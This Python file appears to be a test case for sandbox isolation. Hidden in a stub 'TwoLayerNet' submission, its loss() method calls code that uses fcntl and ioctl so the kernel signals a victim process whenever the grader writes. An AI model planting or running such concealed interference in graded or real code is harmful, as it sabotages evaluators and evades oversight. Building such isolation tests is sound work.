"""Has the kernel signal a stranger whenever the grader writes to it (F_SETOWN, F_SETSIG, O_ASYNC)."""

import contextlib
import fcntl
import os
import signal
import struct

from world import VICTIM

CHANNEL = 3
F_SETSIG, F_SETOWN_EX, F_OWNER_PID = 10, 15, 1
FIOSETOWN, FIOASYNC = 0x8901, 0x5452


def attack():
    # The next question that arrives sends the signal; the stranger says so itself.
    for descriptor in (CHANNEL, 0, 1):
        for command, value in (
            (F_SETSIG, signal.SIGUSR1),
            (fcntl.F_SETOWN, VICTIM),
            (F_SETOWN_EX, struct.pack("ii", F_OWNER_PID, VICTIM)),
            (fcntl.F_SETFL, os.O_ASYNC),
        ):
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, command, value)
        for request, value in ((FIOSETOWN, VICTIM), (FIOASYNC, 1)):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, request, struct.pack("i", value))


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
